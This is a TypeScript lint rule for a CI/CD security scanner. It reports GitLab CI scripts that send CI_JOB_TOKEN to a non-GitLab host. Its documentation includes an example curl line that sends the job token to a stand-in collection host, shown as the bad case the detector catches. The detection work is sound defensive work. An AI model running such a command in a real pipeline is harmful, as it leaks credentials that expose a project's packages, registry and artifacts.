import { addressesOf } from '../../server/core/parse/shell/query.ts';
import { defineRule } from '../../server/core/rule.ts';

/** What is only written somewhere goes to no host yet. */
const PRINTS = /^(?:echo|printf|cat|sed|export)?$/;

export default defineRule({
  id: 'gitlab-job-token-elsewhere',
  summary: 'The token of the job is sent to another host',
  severity: 'high',
  confidence: 'high',
  profile: 'default',
  owasp: ['CICD-SEC-6'],
  cwe: [522],
  since: '0.1.0',
  fix: 'none',
  equivalents: { glsec: ['GL004'], 'pipeline-check': ['GL-040'] },
  kinds: ['gitlab-ci'],
  docs: `
    ## What it does
    Reports requests that carry \`CI_JOB_TOKEN\` to an address that is written out and is not a GitLab host
    (\`gitlab.com\`, \`gitlab.…\`, \`CI_SERVER_…\`, \`CI_API_V4_URL\`).

    ## Why is this bad?
    For as long as the job runs, whoever receives the token can read the project's packages, registry and artifacts,
    and more where it is allowed in other projects.

    ## Example
    \`\`\`yaml bad .gitlab-ci.yml
    a:
      script:
        - 'curl -H "JOB-TOKEN: $CI_JOB_TOKEN" https://collect.example.com/'
    \`\`\`
    Use instead:
    \`\`\`yaml good .gitlab-ci.yml
    a:
      script:
        - 'curl -H "JOB-TOKEN: $CI_JOB_TOKEN" "$CI_API_V4_URL/projects"'
    \`\`\`
  `,
  check: {
    script(ctx, script) {
      if (!/CI_JOB_TOKEN|CI_BUILD_TOKEN/.test(script.text)) return;
      for (const command of script.commands) {
        if (PRINTS.test(command.name)) continue;
        const piece = command.args
          .flatMap(({ pieces }) => pieces)
          .find((part) => part.kind === 'variable' && /^CI_(?:JOB|BUILD)_TOKEN$/.test(part.name));
        const host = addressesOf(command)
          .map(({ text }) => /^(?:--?[\w-]+=)?[a-z+]+:\/\/(?:[^/@]*@)?([^/:?#]+)/i.exec(text)?.[1] ?? '')
          .find((name) => name !== '' && !/\$|gitlab/i.test(name));
        if (!piece || !host) continue;
        ctx.report({
          span: script.spanOf(piece),
          message: `The token of this job goes to ${host}; use a token of that service.`,
        });
      }
    },
  },
});
